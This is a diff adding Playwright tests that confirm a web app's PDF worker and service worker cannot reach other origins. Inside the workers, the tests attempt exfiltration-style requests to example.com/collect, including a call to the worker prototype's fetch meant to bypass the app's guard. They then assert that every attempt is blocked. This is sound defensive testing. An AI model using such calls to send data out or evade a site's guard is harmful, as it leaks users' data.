@@ -1,0 +1,44 @@
+// Workers under the page's privacy policy: a request to another origin made from inside the PDF worker or the
+// service worker is refused, though the other origin would answer (it is answered locally here).
+import { expect, test } from '@playwright/test';
+
+test.beforeEach(async ({ context }) => {
+  await context.route('https://example.com/**', (r) => r.fulfill({ status: 200, body: 'leaked' }));
+});
+
+test('the PDF worker inherits the page’s Content-Security-Policy: a fetch to another origin is blocked', async ({ page }) => {
+  await page.goto('./');
+  const started = page.waitForEvent('worker');
+  await page.getByRole('button', { name: /下载空白表格 PDF/ }).first().click();
+  const worker = await started;
+  expect(worker.url()).toMatch(/^blob:/);
+  const outcome = await worker.evaluate(async () => {
+    const violation = new Promise<string>((ok) => self.addEventListener('securitypolicyviolation', (e) => ok((e as SecurityPolicyViolationEvent).effectiveDirective)));
+    const result = await fetch('https://example.com/collect?name=集群').then(
+      () => 'sent',
+      () => 'blocked',
+    );
+    return { result, directive: await violation };
+  });
+  expect(outcome).toEqual({ result: 'blocked', directive: 'connect-src' });
+  // Hint: the worker still does its own work: the blank form is written.
+  await expect(page.getByRole('status').filter({ hasText: '已生成' }).first()).toBeVisible();
+});
+
+test('the service worker reaches its own origin only: fetch and Cache.add to another origin are refused', async ({ page, context }) => {
+  await page.goto('./');
+  await expect(page.getByRole('status').filter({ hasText: '已可离线使用' })).toBeVisible({ timeout: 60_000 });
+  const worker = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker'));
+  const outcome = await worker.evaluate(async () => {
+    const tried = (p: Promise<unknown>) => p.then(() => 'sent', (e: Error) => e.message);
+    const cache = await caches.open('probe');
+    return {
+      fetch: await tried(fetch('https://example.com/collect')),
+      // Hint: the fetch of the worker's prototype, as code that knows the guard would try.
+      prototypeFetch: await tried((globalThis as unknown as { WorkerGlobalScope: { prototype: { fetch: typeof fetch } } }).WorkerGlobalScope.prototype.fetch.call(self, 'https://example.com/collect')),
+      cacheAdd: await tried(cache.add('https://example.com/collect')),
+      own: await tried(fetch(`${self.location.origin}/apply/manifest.webmanifest`)),
+    };
+  });
+  expect(outcome).toEqual({ fetch: expect.stringContaining('已阻止访问'), prototypeFetch: expect.stringContaining('已阻止访问'), cacheAdd: expect.stringContaining('已阻止访问'), own: 'sent' });
+});
